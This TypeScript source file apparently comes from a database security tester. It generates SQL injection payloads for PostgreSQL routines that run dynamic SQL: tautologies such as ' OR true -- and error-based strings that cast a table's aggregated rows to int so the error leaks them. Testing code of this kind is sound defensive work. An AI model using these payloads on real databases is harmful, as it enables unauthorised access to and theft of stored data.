import { isTable, type Routine } from './catalogue.ts';
import type { Subject } from './subject.ts';

const DYNAMIC = /\bexecute\b|query_to_xml|cursor_to_xml|dblink|ts_stat\s*\(/i;

/**
 * Texts that break out of dynamic SQL: out of a quoted string, into a condition, an order, a name. An error that
 * quotes the rows it stumbled over answers wherever an expression is allowed.
 */
export function injections(subject: Subject, routine: Routine): { at: number; text: string }[] {
  if (!DYNAMIC.test(routine.source) && ![...subject.reach.named(routine.oid)].some((oid) => DYNAMIC.test(subject.catalogue.routines.get(oid)?.source ?? ''))) return [];
  const targets = [...subject.catalogue.relations.values()].filter((relation) => isTable(relation) && subject.rowsOf('victim', relation).length > 0)
    .sort((a, b) => mentions(routine, b.name) - mentions(routine, a.name)).slice(0, 5);
  const general = [`' OR true --`, `%' OR true --`, `' OR '1'='1`, `') OR true --`, `') OR ('1'='1`, `%') OR true --`, 'true', '1 OR true', '1=1) OR (1=1', 'true) OR (true', `x' OR 'x' <> '`];
  const texts = [...general, ...targets.flatMap(({ sql, name }) => {
    const all = `(SELECT string_agg(x::text, ',') FROM ${sql} x)`;
    return [`' || ${all}::int || '`, `%' || ${all}::int || '%`, `' AND ${all}::int = 1 --`, `') AND (${all}::int = 1) --`, `${all}::int`, `1, ${all}::int`, sql, name, `${sql} --`, `1 FROM ${sql} --`, `* FROM ${sql} --`, `${all} --`, all];
  })];
  return routine.args.flatMap(({ type }, at) => (/^(text|character|name)/.test(type) ? texts.map((text) => ({ at, text })) : []));
}

const mentions = (routine: Routine, name: string): number => (routine.source.includes(name) ? 1 : 0);
